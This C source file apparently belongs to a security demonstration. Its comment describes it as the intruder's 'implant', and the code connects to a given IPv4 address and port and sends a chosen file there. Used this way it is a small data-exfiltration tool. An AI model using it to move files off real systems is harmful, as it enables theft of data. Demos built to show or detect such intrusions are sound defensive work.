// SPDX-License-Identifier: Apache-2.0
/*
 * implant ADDRESS PORT FILE - the tool that the intruder of the demo brings along: connects to an IPv4
 * address and sends a file there.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	char data[4096];
	ssize_t n;
	int fd, sock;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 1;
	to.sin_port = htons((unsigned short)atoi(argv[2]));
	fd = open(argv[3], O_RDONLY);
	sock = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || sock < 0 || connect(sock, (struct sockaddr *)&to, sizeof(to))) {
		perror("implant");
		return 1;
	}
	while ((n = read(fd, data, sizeof(data))) > 0)
		if (write(sock, data, (size_t)n) != n)
			return 1;
	return n < 0;
}
